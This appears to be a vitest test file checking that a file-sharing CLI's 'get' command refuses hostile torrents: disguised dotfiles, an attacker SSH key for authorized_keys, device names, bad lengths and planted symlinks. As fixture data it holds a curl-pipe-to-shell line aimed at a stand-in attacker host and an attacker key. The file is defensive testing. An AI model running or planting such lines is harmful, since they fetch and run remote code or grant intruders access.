/**
 * What a trusted sharer with a stolen key can do to the getter's disk, end to end: real
 * `swarm get` processes against a hand-built hostile torrent served by the real node
 * (test/share/hostile-sharer.ts), or an honest `swarm share` with another local user
 * planting things in a shared output folder. `get` writes only what the user was shown.
 */
import { randomBytes } from 'node:crypto';
import { existsSync, mkdirSync, readdirSync, readFileSync, symlinkSync, writeFileSync, rmSync } from 'node:fs';
import { describe, expect, it } from 'vitest';
import { expectCleanFailure, runCli } from '../helpers/cli.js';
import { tempDir } from '../helpers/temp-home.js';
import { join, makeUsers, sameFile, startGetter, startSharer } from '../share/cli-peers.js';
import { startHostileSharer, type HostileTorrent } from '../share/hostile-sharer.js';

const PROFILE = Buffer.from('curl -s https://evil.example/x | sh\n');
const ATTACKER_KEY = Buffer.from('ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIEVIL attacker\n');

function get(home: string, magnet: string, outDir: string, extra: string[] = []) {
  return runCli(['get', magnet, '-o', outDir, '--host', '127.0.0.1', ...extra], { home, timeoutMs: 40_000 });
}

describe('a hostile trusted sharer and your home directory', () => {
  it('cannot plant a dotfile behind an innocent dn; --allow-hidden with the true name lets it through', async () => {
    const [mallory, bob] = makeUsers(['mallory', 'bob']);
    const sharer = await startHostileSharer(mallory!, { name: '.bash_profile', data: PROFILE });
    const home = tempDir('swarm-victim-');

    const disguised = await get(bob!.home, sharer.magnet({ dn: 'holiday.jpg', xl: PROFILE.length }), home);
    expectCleanFailure(disguised, 1, /refusing torrent: the link says "holiday\.jpg" but the sharer's metadata names "\.bash_profile"/);
    const honest = await get(bob!.home, sharer.magnet({ dn: '.bash_profile', xl: PROFILE.length }), home);
    expectCleanFailure(honest, 1, /hidden file or folder "\.bash_profile".*--allow-hidden/);
    const nameless = await get(bob!.home, sharer.magnet(), home);
    expectCleanFailure(nameless, 1, /hidden file or folder "\.bash_profile"/);
    expect(readdirSync(home)).toEqual([]);
    expect(existsSync(join(bob!.home, 'partial'))).toBe(false); // refused before any record was made

    const allowed = await get(bob!.home, sharer.magnet({ dn: '.bash_profile' }), home, ['--allow-hidden']);
    expect(allowed.code, allowed.stderr).toBe(0);
    expect(readFileSync(join(home, '.bash_profile'))).toEqual(PROFILE);
  }, 90_000);

  it('cannot replace ~/.ssh/authorized_keys, with or without --force', async () => {
    const [mallory, bob] = makeUsers(['mallory', 'bob']);
    const sharer = await startHostileSharer(mallory!, { name: '.ssh', files: [{ path: ['authorized_keys'], data: ATTACKER_KEY }] });
    const home = tempDir('swarm-victim-');
    mkdirSync(join(home, '.ssh'));
    writeFileSync(join(home, '.ssh', 'authorized_keys'), 'ssh-ed25519 AAAA mine\n');

    for (const extra of [[], ['--force']]) {
      const result = await get(bob!.home, sharer.magnet({ dn: 'photos' }), home, extra);
      expectCleanFailure(result, 1, /the link says "photos" but the sharer's metadata names "\.ssh"/);
    }
    const named = await get(bob!.home, sharer.magnet({ dn: '.ssh' }), home, ['--force']);
    expectCleanFailure(named, 1, /hidden file or folder "\.ssh"/);
    expect(readFileSync(join(home, '.ssh', 'authorized_keys'), 'utf8')).toBe('ssh-ed25519 AAAA mine\n');
  }, 90_000);

  it('--force replaces a file the torrent names, never a folder in its place', async () => {
    const [mallory, bob] = makeUsers(['mallory', 'bob']);
    const data = randomBytes(40_000);
    const sharer = await startHostileSharer(mallory!, { name: 'Documents', data });
    const home = tempDir('swarm-victim-');
    mkdirSync(join(home, 'Documents'));
    writeFileSync(join(home, 'Documents', 'thesis.tex'), 'years of work');
    const result = await get(bob!.home, sharer.magnet({ dn: 'Documents' }), home, ['--force']);
    expectCleanFailure(result, 1, /Documents is a folder; --force replaces only regular files the download names/);
    expect(readFileSync(join(home, 'Documents', 'thesis.tex'), 'utf8')).toBe('years of work');
  }, 60_000);
});

const ONE_BLOCK = Buffer.alloc(12, 1);
const file = (...path: string[]) => ({ path, data: ONE_BLOCK });

describe('metadata the guard refuses, served by a trusted peer', () => {
  const cases: [string, HostileTorrent, RegExp][] = [
    ['names that differ only in case', { name: 'pics', files: [file('Cat.jpg'), file('cat.jpg')] }, /"pics\/Cat\.jpg" and "pics\/cat\.jpg" are the same file/],
    ['names that differ only in Unicode form', { name: 'pics', files: [file('caf\u00e9'), file('cafe\u0301')] }, /are the same file on a case-insensitive or normalising disk/],
    ['a file and a folder of one name', { name: 'pics', files: [file('a'), file('A', 'b')] }, /"pics\/a" is both a file and the folder "pics\/A"/],
    ['"con " (a device with a trailing space)', { name: 'con ', data: ONE_BLOCK }, /file name "con " is a device name/],
    ['COM\u00b9 (superscript digit)', { name: 'pics', files: [file('COM\u00b9.txt')] }, /"COM\u00b9\.txt" is a device name/],
    ['trailing dots', { name: 'pics', files: [file('x...')] }, /"x\.\.\." ends with a dot or space/],
    ['a negative length', { name: 'pics', files: [file('a'), { path: ['b'], data: ONE_BLOCK }], infoOverrides: { files: [{ length: 24, path: ['a'] }, { length: -12, path: ['b'] }] } }, /file length -12 is outside 0\.\.2\^40 bytes/],
    ['a 2^50-byte length', { name: 'big.bin', data: ONE_BLOCK, infoOverrides: { length: 2 ** 50 } }, /file length 1125899906842624 is outside 0\.\.2\^40 bytes/],
    ['a 2 GiB piece length', { name: 'big.bin', data: ONE_BLOCK, pieceLength: 2 ** 31 }, /piece length 2147483648 is outside 16 KiB\.\.16 MiB/],
  ];

  it.each(cases)('%s', async (_label, torrent, message) => {
    const [mallory, bob] = makeUsers(['mallory', 'bob']);
    const sharer = await startHostileSharer(mallory!, torrent, false);
    const out = tempDir();
    const result = await get(bob!.home, sharer.magnet(), out);
    expectCleanFailure(result, 1, message);
    expect(readdirSync(out)).toEqual([]);
  }, 40_000);

  it('a total other than the link\'s xl', async () => {
    const [mallory, bob] = makeUsers(['mallory', 'bob']);
    const sharer = await startHostileSharer(mallory!, { name: 'movie.mkv', data: randomBytes(50_000) }, false);
    const out = tempDir();
    expectCleanFailure(await get(bob!.home, sharer.magnet({ dn: 'movie.mkv', xl: 700 }), out), 1, /the link says 700 bytes but the sharer's metadata totals 50000/);
    expect(readdirSync(out)).toEqual([]);
  }, 40_000);
});

describe('another local user and a shared output folder', () => {
  it('a planted .swarm-partial marker no longer turns a symlink into "our resume"', async () => {
    const [alice, bob] = makeUsers(['alice', 'bob']);
    const dir = tempDir();
    const source = join(dir, 'holiday.jpg');
    writeFileSync(source, randomBytes(300_000));
    const { magnet } = await startSharer(alice!, source);
    const infoHash = /btih:([0-9a-f]{40})/.exec(magnet)![1]!;
    const shared = join(dir, 'shared');
    mkdirSync(shared);
    const victim = join(dir, 'bob-bashrc');
    writeFileSync(victim, 'bob\'s settings\n');
    writeFileSync(join(shared, `.swarm-partial-${infoHash}`), `${infoHash}\n`);
    symlinkSync(victim, join(shared, 'holiday.jpg'));

    expectCleanFailure(await get(bob!.home, magnet, shared), 1, /holiday\.jpg already exists and differs from the download/);
    expectCleanFailure(await get(bob!.home, magnet, shared, ['--force']), 1, /holiday\.jpg is a symbolic link; --force replaces only regular files/);
    expect(readFileSync(victim, 'utf8')).toBe('bob\'s settings\n');
  }, 60_000);

  it('a symlink swapped in while a get was killed is not followed on resume', async () => {
    const [alice, bob] = makeUsers(['alice', 'bob']);
    const dir = tempDir();
    const source = join(dir, 'holiday.jpg');
    const size = 4 * 1024 * 1024;
    writeFileSync(source, randomBytes(size));
    const { magnet } = await startSharer(alice!, source, ['--upload-limit', '512k']);
    const shared = join(dir, 'shared');
    const first = startGetter(bob!, magnet, shared);
    await first.waitForEvent((e) => e.event === 'progress' && Number(e.verified) > 0, 30_000, 'some piece verified');
    await first.stop('SIGKILL');
    expect(readdirSync(shared)).toEqual(['holiday.jpg.part']); // no marker in the output folder any more
    expect(readdirSync(join(bob!.home, 'partial'))).toHaveLength(1);

    const victim = join(dir, 'bob-bashrc');
    writeFileSync(victim, 'bob\'s settings\n');
    rmSync(join(shared, 'holiday.jpg.part'));
    symlinkSync(victim, join(shared, 'holiday.jpg.part'));
    // --json keeps progress lines (which a loaded machine may print before the refusal) off stderr.
    const resumed = await get(bob!.home, magnet, shared, ['--json']);
    expectCleanFailure(resumed, 1, /refusing to write .*holiday\.jpg\.part: it is a symbolic link/);
    expect(readFileSync(victim, 'utf8')).toBe('bob\'s settings\n');

    // With the link gone, the same command resumes and finishes.
    rmSync(join(shared, 'holiday.jpg.part'));
    const again = startGetter(bob!, magnet, shared);
    expect(await again.exited).toBe(0);
    expect(sameFile(source, join(shared, 'holiday.jpg'))).toBe(true);
    expect(readdirSync(shared)).toEqual(['holiday.jpg']);
    expect(existsSync(join(bob!.home, 'partial'))).toBe(true);
    expect(readdirSync(join(bob!.home, 'partial'))).toEqual([]);
  }, 90_000);
});
